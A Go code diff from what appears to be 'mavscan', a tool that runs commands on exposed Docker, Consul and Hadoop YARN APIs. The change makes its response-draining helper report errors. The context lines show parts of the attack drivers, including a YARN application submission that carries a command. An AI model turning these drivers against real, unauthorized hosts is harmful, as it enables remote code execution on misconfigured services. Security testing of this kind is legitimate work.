@@ -5,11 +5,11 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
-	"io"
 	"net/http"
 	"net/url"
 	"strings"
 
+	"mavscan/internal/limits"
 	"mavscan/internal/mav"
 )
 
@@ -27,15 +27,25 @@ func post(ctx context.Context, client *http.Client, u string, contentType string
 	return client.Do(req)
 }
 
-func discard(resp *http.Response) {
-	io.Copy(io.Discard, io.LimitReader(resp.Body, 64<<10))
-	resp.Body.Close()
+// discard drains the body (capped at limits.DrainBody) so the connection
+// can be reused, surfacing the read error the old version dropped: against
+// a weaponized endpoint a failed drain is the only symptom the exchange
+// did not really complete.
+func discard(resp *http.Response) error {
+	err := limits.Drain(resp.Body)
+	if cerr := resp.Body.Close(); err == nil {
+		err = cerr
+	}
+	return err
 }
 
 func expect2xx(resp *http.Response, what string) error {
-	defer discard(resp)
 	if resp.StatusCode < 200 || resp.StatusCode >= 300 {
+		_ = discard(resp) // the status failure is the better error
 		return fmt.Errorf("attacker: %s: status %d", what, resp.StatusCode)
+	}
+	if err := discard(resp); err != nil {
+		return fmt.Errorf("attacker: %s: draining response: %w", what, err)
 	}
 	return nil
 }
@@ -173,7 +183,9 @@ var drivers = map[mav.App]driver{
 		if err != nil {
 			return err
 		}
-		discard(resp)
+		if err := discard(resp); err != nil {
+			return fmt.Errorf("attacker: docker start: draining response: %w", err)
+		}
 		return nil
 	},
 	mav.Consul: func(ctx context.Context, c *http.Client, base, cmd string) error {
@@ -201,7 +213,9 @@ var drivers = map[mav.App]driver{
 		if err != nil {
 			return err
 		}
-		discard(resp)
+		if err := discard(resp); err != nil {
+			return fmt.Errorf("attacker: hadoop new-application: draining response: %w", err)
+		}
 		resp, err = postJSON(ctx, c, base+"/ws/v1/cluster/apps", map[string]interface{}{
 			"application-id":   "application_1623456789000_0001",
 			"application-name": "hive-job",
